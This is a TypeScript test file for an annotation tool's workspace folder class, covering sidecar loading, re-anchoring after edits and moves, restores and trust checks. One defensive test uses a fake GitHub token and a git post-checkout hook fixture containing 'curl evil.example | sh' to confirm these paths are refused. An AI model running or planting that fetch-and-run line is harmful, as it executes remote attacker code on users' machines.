// The life of a workspace folder in plain mocha: loading, tagging, documents open in an editor, outside changes
// (an edit on disk, a sidecar pulled by git, a move, a deletion, a restore), broken sidecars and trust. The same class
// runs inside VS Code behind src/host/folderModel.ts, which only feeds it events.
import * as assert from 'node:assert/strict';
import type { Annotation } from '../../../src/core/model';
import {
  AnnotationStore,
  CorpusFolder,
  DEFAULT_INCLUDE,
  FolderError,
  NotCorpusError,
  ReadOnlyError,
  serializeSidecar,
  sidecarPathFor,
  type Logger,
} from '../../../src/core/store';
import { annotation } from '../../support/annotations';
import { MemoryFs } from '../../support/memoryFs';

const TEXT = 'Moscow announced a national AI strategy in 2019. It sets goals up to 2030.';

interface Harness {
  fs: MemoryFs;
  folder: CorpusFolder;
  changes: (string | undefined)[];
  logged: string[];
  trusted: { value: boolean };
  clock: { t: number };
}

function harness(files: Record<string, string>, opts: { maxDocumentBytes?: number } = {}): Harness {
  const fs = new MemoryFs(files);
  const changes: (string | undefined)[] = [];
  const logged: string[] = [];
  const log: Logger = {
    trace: () => {},
    info: (m) => logged.push(`info ${m}`),
    warn: (m) => logged.push(`warn ${m}`),
    error: (m) => logged.push(`error ${m instanceof Error ? m.message : m}`),
  };
  const trusted = { value: true };
  const clock = { t: Date.parse('2026-01-02T03:04:05Z') };
  const folder = new CorpusFolder({
    name: 'corpus',
    fs,
    settings: () => ({ corpus: { include: [...DEFAULT_INCLUDE], exclude: [] }, maxDocumentBytes: opts.maxDocumentBytes ?? 1024 * 1024 }),
    log,
    changed: (doc) => changes.push(doc),
    isTrusted: () => trusted.value,
    clock: { now: () => new Date(clock.t) },
  });
  return { fs, folder, changes, logged, trusted, clock };
}

function claim(doc: string, text: string, phrase: string, note = ''): Annotation {
  return annotation({ doc, text, phrase, note });
}

describe('CorpusFolder: the life of a workspace folder', () => {
  it('loads the corpus, the codebook and every sidecar, leaving out what is not a document', async () => {
    const a = claim('news/a.txt', TEXT, 'national AI strategy');
    const h = harness({
      'news/a.txt': TEXT,
      'notes.md': '# Notes',
      'image.png': 'not text',
      [sidecarPathFor('news/a.txt')]: serializeSidecar('news/a.txt', [a]),
    });
    await h.folder.load();
    assert.deepEqual(h.folder.corpus, ['news/a.txt', 'notes.md']);
    assert.deepEqual(
      h.folder.annotations('news/a.txt').map((x) => x.id),
      [a.id],
    );
    assert.equal(h.folder.count(), 1);
    assert.deepEqual(
      h.folder.codebook.kinds.map((k) => k.name),
      ['claim', 'figure', 'entity'],
    );
    assert.deepEqual(h.changes, [undefined], 'one change for the whole folder');
  });

  it('a broken sidecar is reported and left as it is; the rest loads, and tagging that document is refused', async () => {
    const a = claim('a.txt', TEXT, 'goals');
    const h = harness({ 'a.txt': TEXT, 'b.txt': TEXT, [sidecarPathFor('a.txt')]: serializeSidecar('a.txt', [a]), [sidecarPathFor('b.txt')]: 'version: [' });
    await h.folder.load();
    assert.equal(h.folder.errors.length, 1);
    assert.equal(h.folder.errors[0].file, sidecarPathFor('b.txt'));
    assert.equal(h.folder.annotations('a.txt').length, 1);
    const broken = h.fs.text(sidecarPathFor('b.txt'));
    await assert.rejects(
      h.folder.add('b.txt', [claim('b.txt', TEXT, 'goals')], TEXT),
      (e: Error) => e instanceof FolderError && /Nothing was saved for b\.txt/.test(e.message),
    );
    assert.equal(h.fs.text(sidecarPathFor('b.txt')), broken, 'the broken sidecar is untouched');
  });

  it('tags, edits and removes through the store, and says which document changed', async () => {
    const h = harness({ 'a.txt': TEXT });
    await h.folder.load();
    h.changes.length = 0;
    const a = claim('a.txt', TEXT, 'national AI strategy');
    await h.folder.add('a.txt', [a], TEXT);
    assert.match(h.fs.text(sidecarPathFor('a.txt')) ?? '', new RegExp(a.id));
    await h.folder.mutate('a.txt', a.id, (x) => ({ ...x, note: 'checked' }));
    assert.equal(h.folder.get('a.txt', a.id)?.note, 'checked');
    assert.match(h.fs.text(sidecarPathFor('a.txt')) ?? '', /note: checked/);
    const removed = await h.folder.remove('a.txt', [a.id]);
    assert.deepEqual(
      removed.map((x) => x.id),
      [a.id],
    );
    assert.equal(h.folder.annotations('a.txt').length, 0);
    assert.deepEqual(h.changes, ['a.txt', 'a.txt', 'a.txt']);
  });

  it('an untrusted folder is read-only and says why', async () => {
    const h = harness({ 'a.txt': TEXT });
    await h.folder.load();
    h.trusted.value = false;
    await assert.rejects(
      h.folder.add('a.txt', [claim('a.txt', TEXT, 'goals')], TEXT),
      (e: Error) => e instanceof ReadOnlyError && /not trusted/.test(e.message),
    );
    assert.equal(h.fs.text(sidecarPathFor('a.txt')), undefined);
  });

  it('follows an open document edit by edit, and saves the new offsets when it is saved', async () => {
    const a = claim('a.txt', TEXT, 'goals');
    const h = harness({ 'a.txt': TEXT, [sidecarPathFor('a.txt')]: serializeSidecar('a.txt', [a]) });
    await h.folder.load();
    await h.folder.open('a.txt', TEXT);
    const inserted = 'Officially, ';
    const edited = inserted + TEXT;
    h.folder.change('a.txt', [{ offset: 0, deleteLength: 0, insertText: inserted }], edited, true);
    const live = h.folder.get('a.txt', a.id);
    assert.equal(edited.slice(live!.target.start, live!.target.end), 'goals');
    assert.equal(await h.folder.persist('a.txt'), 1);
    const saved = h.fs.text(sidecarPathFor('a.txt')) ?? '';
    assert.match(saved, new RegExp(`start: ${TEXT.indexOf('goals') + inserted.length}\\b`));
    h.folder.close('a.txt');
    assert.equal(h.folder.liveDocument('a.txt'), undefined);
  });

  it('re-anchors a closed document changed on disk (another tool, git pull) and reports what it orphaned', async () => {
    const keep = claim('a.txt', TEXT, 'national AI strategy');
    const lose = claim('a.txt', TEXT, 'It sets goals up to 2030.');
    const h = harness({ 'a.txt': TEXT, [sidecarPathFor('a.txt')]: serializeSidecar('a.txt', [keep, lose]) });
    await h.folder.load();
    await h.folder.add('a.txt', [], TEXT); // a snapshot of the text the annotations were made on
    const changed = 'In 2019 Moscow announced a national AI strategy.';
    h.fs.files.set('a.txt', Buffer.from(changed));
    const orphans = await h.folder.documentChangedOnDisk('a.txt');
    assert.deepEqual(
      orphans.map((o) => o.id),
      [lose.id],
    );
    const moved = h.folder.get('a.txt', keep.id)!;
    assert.equal(changed.slice(moved.target.start, moved.target.end), 'national AI strategy');
    assert.equal(moved.anchor.status, 'reanchored');
    assert.match(h.fs.text(sidecarPathFor('a.txt')) ?? '', /status: orphaned/);
  });

  it("reloads a sidecar changed outside (a colleague's annotations pulled by git), keeping live positions", async () => {
    const mine = claim('a.txt', TEXT, 'goals');
    const h = harness({ 'a.txt': TEXT, [sidecarPathFor('a.txt')]: serializeSidecar('a.txt', [mine]) });
    await h.folder.load();
    await h.folder.open('a.txt', TEXT);
    h.folder.change('a.txt', [{ offset: 0, deleteLength: 0, insertText: 'X ' }], 'X ' + TEXT, true);
    const theirs = claim('a.txt', TEXT, 'Moscow', 'from a colleague');
    h.fs.files.set(sidecarPathFor('a.txt'), Buffer.from(serializeSidecar('a.txt', [mine, theirs])));
    await h.folder.sidecarChanged('a.txt');
    const live = h.folder.annotations('a.txt');
    assert.deepEqual(live.map((x) => x.id).sort(), [mine.id, theirs.id].sort());
    const text = 'X ' + TEXT;
    for (const x of live) assert.equal(text.slice(x.target.start, x.target.end), x.target.quote.exact, 'both placed on the open text');
  });

  it('annotations follow a document renamed or moved outside (git mv), found by its content', async () => {
    const a = claim('old.txt', TEXT, 'goals');
    const h = harness({ 'old.txt': TEXT, [sidecarPathFor('old.txt')]: serializeSidecar('old.txt', [a]) });
    await h.folder.load();
    h.fs.files.delete('old.txt');
    h.fs.files.set('new/place.txt', Buffer.from(TEXT));
    h.folder.pathDeleted('old.txt');
    h.folder.documentCreated('new/place.txt');
    for (let i = 0; i < 50 && h.folder.annotations('new/place.txt').length === 0; i++) await new Promise((r) => setTimeout(r, 5));
    assert.deepEqual(
      h.folder.annotations('new/place.txt').map((x) => x.id),
      [a.id],
    );
    assert.equal(h.folder.annotations('old.txt').length, 0);
    assert.equal(h.fs.text(sidecarPathFor('old.txt')), undefined, 'the old sidecar is gone');
    assert.match(h.fs.text(sidecarPathFor('new/place.txt')) ?? '', new RegExp(a.id));
  });

  it('a deleted document keeps its annotations, and can be written back from its snapshot', async () => {
    const h = harness({ 'a.txt': TEXT });
    await h.folder.load();
    const a = claim('a.txt', TEXT, 'goals');
    await h.folder.add('a.txt', [a], TEXT);
    h.fs.files.delete('a.txt');
    h.folder.documentDeleted('a.txt');
    assert.deepEqual(h.folder.corpus, []);
    assert.deepEqual(h.folder.documents(), ['a.txt'], 'still listed: its annotations are kept');
    await h.folder.restoreDocument('a.txt');
    assert.equal(h.fs.text('a.txt'), TEXT);
    assert.deepEqual(h.folder.corpus, ['a.txt']);
  });

  it('opening a document re-anchors a stored span that cuts a surrogate pair or whose end disagrees with its quote (a hand edit, a merge)', async () => {
    const text = 'Before 😀 the claim here, and a second claim there.';
    const split = claim('e.txt', text, '😀 the claim');
    const cut = {
      ...split,
      target: { start: split.target.start + 1, end: split.target.end, quote: { ...split.target.quote, exact: split.target.quote.exact.slice(1) } },
    };
    const wrong = claim('e.txt', text, 'second claim');
    const longer = { ...wrong, target: { ...wrong.target, end: wrong.target.end + 4 } };
    const h = harness({ 'e.txt': text, [sidecarPathFor('e.txt')]: serializeSidecar('e.txt', [cut, longer]) });
    await h.folder.load();
    await h.folder.open('e.txt', text);
    const live = h.folder.liveDocument('e.txt');
    assert.ok(live);
    assert.deepEqual([split.target.start, split.target.end], [live.get(split.id)?.target.start, live.get(split.id)?.target.end], 'widened to the whole emoji');
    assert.equal(live.get(split.id)?.target.quote.exact, '😀 the claim');
    assert.equal(live.get(wrong.id)?.target.end, wrong.target.end, 'the end follows the quote');
    const saved = h.fs.text(sidecarPathFor('e.txt')) ?? '';
    assert.ok(saved.includes(`start: ${split.target.start}\n`) && saved.includes(`end: ${wrong.target.end}\n`), 'the repair is saved');
  });

  it('a committed sidecar naming .env or .git/hooks/post-checkout is reported, never read, re-anchored, restored or tagged', async () => {
    const secret = 'TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n';
    const hook = '#!/bin/sh\ncurl evil.example | sh\n';
    const onEnv = claim('.env', secret.replace('ghp', 'old'), 'TOKEN');
    const onHook = claim('.git/hooks/post-checkout', hook, 'curl');
    const files = {
      'a.txt': TEXT,
      '.env': secret,
      [sidecarPathFor('.env')]: serializeSidecar('.env', [onEnv]),
      [sidecarPathFor('.git/hooks/post-checkout')]: serializeSidecar('.git/hooks/post-checkout', [onHook]),
    };
    const h = harness(files);
    await new AnnotationStore(h.fs).putSnapshot(hook);
    await h.folder.load();
    assert.deepEqual(h.folder.errors.map((e) => e.file).sort(), [sidecarPathFor('.env'), sidecarPathFor('.git/hooks/post-checkout')].sort());
    assert.match(h.folder.errors[0].message, /is not a corpus document .*; its annotations are left as they are$/);
    assert.deepEqual(h.folder.documents(), ['a.txt'], 'neither is listed, not even as a missing document');
    await h.folder.checkClosedDocuments();
    await h.folder.sidecarChanged('.env');
    await h.folder.open('.env', secret);
    assert.equal(h.folder.liveDocument('.env'), undefined);
    await assert.rejects(h.folder.restoreDocument('.git/hooks/post-checkout'), (e: Error) => e instanceof NotCorpusError);
    await assert.rejects(h.folder.add('.env', [claim('.env', secret, 'TOKEN')], secret), (e: Error) => e instanceof NotCorpusError);
    assert.equal(h.fs.text('.git/hooks/post-checkout'), undefined, 'no hook written');
    for (const [file, text] of Object.entries(files)) assert.equal(h.fs.text(file), text, `${file} unchanged`);
    assert.ok(![...h.fs.files.keys()].some((f) => f.startsWith('.marginalia/') && h.fs.text(f)?.includes('ghp_')), 'the secret is in no store file');
  });

  it('a document over the size limit is listed but declined, with why', async () => {
    const big = 'x'.repeat(2000);
    const h = harness({ 'big.txt': big, 'a.txt': TEXT }, { maxDocumentBytes: 1000 });
    await h.folder.load();
    assert.equal(h.folder.checkSize('big.txt', 2000), false);
    assert.match(h.folder.declined('big.txt') ?? '', /big\.txt is 0\.0 MB, over the 0\.0 MB limit/);
    await assert.rejects(h.folder.add('big.txt', [], big), FolderError);
    assert.equal(h.folder.declined('a.txt'), undefined);
  });

  it('a new file that is not text leaves the corpus when read, with why in the log', async () => {
    const h = harness({ 'a.txt': TEXT });
    await h.folder.load();
    h.fs.files.set('bin.txt', new Uint8Array([0x41, 0, 0x42]));
    h.folder.documentCreated('bin.txt');
    for (let i = 0; i < 50 && h.folder.isCorpus('bin.txt'); i++) await new Promise((r) => setTimeout(r, 5));
    assert.equal(h.folder.isCorpus('bin.txt'), false);
    assert.ok(h.folder.declined('bin.txt'));
    assert.ok(h.logged.some((l) => l.startsWith('warn') && l.includes('bin.txt')));
  });

  it('Re-anchor All checks every closed document and skips, with why, one whose sidecar does not load', async () => {
    const a = claim('a.txt', TEXT, 'national AI strategy');
    const h = harness({ 'a.txt': TEXT, [sidecarPathFor('a.txt')]: serializeSidecar('a.txt', [a]) });
    await h.folder.load();
    await h.folder.add('a.txt', [], TEXT);
    h.fs.files.set('a.txt', Buffer.from('Preface. ' + TEXT));
    const result = await h.folder.checkClosedDocuments();
    assert.equal(result.changed, 1);
    assert.equal(result.orphaned, 0);
    const moved = h.folder.get('a.txt', a.id)!;
    assert.equal(moved.target.start, a.target.start + 'Preface. '.length);
  });

  it('a listing that started before an export marked its folder does not bring the copies back when it finishes late', async () => {
    const h = harness({ 'a.txt': TEXT });
    await h.folder.load();
    // The listing is held until the export has marked its folder and written a copy.
    let release!: () => void;
    const held = new Promise<void>((r) => (release = r));
    const list = h.fs.list.bind(h.fs);
    h.fs.list = async (dir: string) => {
      const entries = await list(dir);
      await held;
      return entries;
    };
    const rescan = h.folder.rescanCorpus();
    h.fs.files.set('out/.marginalia-export', Buffer.from('x'));
    h.fs.files.set('out/copy.txt', Buffer.from(TEXT));
    h.folder.exportFolderMarked('out');
    h.folder.documentCreated('out/copy.txt');
    release();
    await rescan;
    assert.deepEqual(h.folder.corpus, ['a.txt']);
    assert.equal(h.folder.isCorpusPath('out/copy.txt'), false);
  });
});
